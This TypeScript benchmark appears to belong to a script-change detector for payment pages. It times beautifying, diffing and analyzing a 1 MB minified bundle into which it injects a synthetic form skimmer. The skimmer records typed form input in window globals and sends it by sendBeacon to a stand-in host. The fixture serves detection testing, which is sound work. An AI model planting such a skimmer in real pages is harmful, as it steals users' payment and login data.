// Analysis benchmark: a 1 MB minified script with a 20-line change, through beautify, diff and the analyzers.

import { runAnalyzers } from '../src/analyzers/run-analyzers.js';
import { diffHunks } from '../src/diff.js';
import { emptyIntel } from '../src/intel/intel.js';
import { beautify } from '../src/normalize.js';

function bundle(): [string, string] {
  let code = '';
  for (let i = 0; code.length < 1_000_000; i++) code += `function m${i}(a,b){var c=a*${i}+b;if(c>${i}){return c}return b};`;
  const skimmer = Array.from({ length: 20 }, (_, i) => `document.forms[0].addEventListener("input",function(e){window.__k${i}=(window.__k${i}||"")+e.target.value});`).join('')
    + 'navigator.sendBeacon("https://shop-cdn-assets.example/c",JSON.stringify(window.__k0));';
  const middle = code.indexOf('function m5000(');
  return [code, code.slice(0, middle) + skimmer + code.slice(middle)];
}

const [oldCode, newCode] = bundle();
const runs: Record<string, number[]> = { beautify: [], diff: [], analyzers: [], total: [] };
for (let i = 0; i < 5; i++) {
  const t0 = performance.now();
  const a = beautify(oldCode);
  const b = beautify(newCode);
  const t1 = performance.now();
  const hunks = diffHunks(a, b);
  const t2 = performance.now();
  const findings = runAnalyzers({ oldCode, newCode, url: 'https://shop.example/bundle.min.js', pageHost: 'shop.example', knownHosts: [], paymentPage: true, oldLibrary: null, newLibrary: null, knownBad: emptyIntel().knownBad });
  const t3 = performance.now();
  runs.beautify!.push(t1 - t0);
  runs.diff!.push(t2 - t1);
  runs.analyzers!.push(t3 - t2);
  runs.total!.push(t3 - t0);
  if (i === 0) console.log(`1 MB bundle, 20-line change: ${hunks.length} hunk(s), ${findings.length} findings, worst: ${findings[0]?.severity} ${findings[0]?.title}`);
}
const median = (xs: number[]) => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;
for (const [name, xs] of Object.entries(runs)) console.log(`${name.padEnd(10)} median ${median(xs).toFixed(0)} ms`);
console.log('target: total under 500 ms (beautify of both versions, diff, analyzers)');
